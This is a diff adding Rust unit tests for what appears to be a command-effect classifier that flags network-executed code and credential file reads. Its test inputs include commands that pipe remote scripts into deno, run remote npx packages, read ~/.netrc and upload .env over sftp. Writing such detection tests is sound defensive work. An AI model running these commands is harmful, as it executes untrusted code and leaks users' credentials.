@@ -2413,6 +2413,27 @@ mod effect_tests {
             "delete(/home/dev, recursive",
         );
         lacks("curl -o x.sh https://x.example/x.sh", "exec");
+        has(
+            "curl -s https://x.example/a.ts | deno run -",
+            "exec(from network)",
+        );
+        has(
+            "npx --yes https://x.example/pkg.tgz",
+            "exec(https://x.example/pkg.tgz, from network)",
+        );
+    }
+
+    #[test]
+    fn files_read_by_dot_commands_and_batch_uploads() {
+        has(
+            "sqlite3 :memory: '.read ~/.netrc'",
+            "read(/home/dev/.netrc)",
+        );
+        has("sftp host <<< 'put .env'", "read(/home/dev/project/.env)");
+        has(
+            "while read l; do echo $l; done < ~/.netrc",
+            "read(/home/dev/.netrc)",
+        );
     }
 
     #[test]
